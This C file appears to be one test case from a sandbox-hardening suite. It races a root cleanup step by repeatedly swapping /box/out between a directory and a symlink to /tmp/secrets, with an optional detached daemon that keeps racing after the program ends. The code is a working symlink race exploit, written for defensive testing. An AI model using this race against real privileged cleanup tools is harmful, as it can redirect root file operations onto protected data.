/* Case: C074 root-tool-race
 * Attacks: nothing-left
 * Run: dir => held
 * Run: daemon => held
 * Collect: out/answer
 * Judge: remove /box/out
 * Undefended: changed
 * Undefended: daemon => left
 * Control: tidies up after itself
 *
 * A directory that is a link half of the time, under the feet of whoever cleans up. daemon goes on after the program's
 * end. */
#include <sys/stat.h>

#include "attack.h"

static void swap(int times)
{
	for (int i = 0; i < times; i++) {
		mkdir("/box/out", 0755);
		rename("/box/out", "/box/was");
		symlink("/tmp/secrets", "/box/out");
		if (i + 1 == times)
			return; /* ends as a link */
		unlink("/box/out");
		if (rmdir("/box/was") != 0)
			unlink("/box/was"); /* the other one was quicker */
	}
}

int main(int argc, char **argv)
{
#ifdef CONTROL
	(void)argc, (void)argv, (void)swap;
	return mkdir("/box/out", 0755) == 0 && rmdir("/box/out") == 0 ? fine() : 1;
#endif
	if (argc > 1 && strcmp(argv[1], "daemon") == 0 && fork() == 0) {
		setsid();
		for (;;)
			swap(1000);
	}
	swap(4000);
	return HELD;
}
